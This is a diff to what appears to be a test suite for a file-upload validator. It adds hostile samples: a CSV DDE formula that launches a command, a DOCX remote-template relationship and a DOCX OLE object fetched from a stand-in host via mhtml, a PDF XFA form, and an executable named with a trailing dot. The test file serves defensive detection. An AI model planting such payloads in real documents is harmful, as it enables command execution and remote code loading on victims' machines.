@@ -28,7 +28,12 @@ GOOD: dict[str, list[Callable[[], bytes]]] = {
     "docx": [made.docx],
     "xls": [made.xls],
     "xlsx": [made.xlsx],
-    "csv": [TEXT.encode, lambda: TEXT.encode("utf-16"), lambda: b"MZ;1\r\n"],
+    "csv": [
+        b"a;=A1-cmd\r\n-1|2\r\n".__bytes__,
+        TEXT.encode,
+        lambda: TEXT.encode("utf-16"),
+        lambda: b"MZ;1\r\n",
+    ],
     "pptx": [made.pptx],
     "pdf": [lambda: made.pdf("Thuyết minh")],
     "tif": [lambda: made.TIF, lambda: b"MM\0*" + bytes(16)],
@@ -167,6 +172,36 @@ HOSTILE: dict[str, tuple[str, str, Callable[[], bytes]]] = {
             },
         ),
     ),
+    "template_from_elsewhere_in_other_letters": (
+        "a.docx",
+        "remote-template",
+        lambda: made.added(
+            made.docx(),
+            {
+                "word/_rels/settings.xml.rels": '<Relationships><Relationship TargetMode="External"'
+                ' Type="x/attached&#84;emplate" Target="a"/></Relationships>'.encode("utf-16")
+            },
+        ),
+    ),
+    "object_from_elsewhere": (
+        "a.docx",
+        "remote-template",
+        lambda: made.added(
+            made.docx(),
+            {
+                "word/_rels/x.xml.rels": b'<Relationships><Relationship Type="x/oleObject" Target='
+                b'"mhtml:https://x.example/a!x" TargetMode="External"/></Relationships>'
+            },
+        ),
+    ),
+    "csv_that_runs_a_command": ("a.csv", "macros", lambda: b"a,b\r\n1,\"=cmd|'/C calc'!A0\"\r\n"),
+    "csv_that_runs_a_command_in_utf16": ("a.csv", "macros", lambda: '+dde ("x")'.encode("utf-16")),
+    "pdf_form_with_scripts": (
+        "a.pdf",
+        "macros",
+        lambda: made.pdf("x", catalog="/AcroForm<</Fields[]/XFA(x)>>"),
+    ),
+    "program_with_a_dot_behind": ("a.zip", "program", lambda: made.zipped({"a.exe. ": b"x"})),
     "package_embedded_in_docx": (
         "a.docx",
         "embedded-file",
